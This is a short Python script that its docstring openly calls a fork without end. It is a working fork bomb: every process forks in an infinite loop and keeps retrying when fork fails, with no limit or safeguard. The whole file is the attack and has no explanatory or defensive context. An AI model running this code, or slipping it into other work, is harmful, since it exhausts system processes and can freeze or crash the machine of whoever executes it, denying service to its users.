"""Fork without end: every process forks again, and retries when fork fails."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
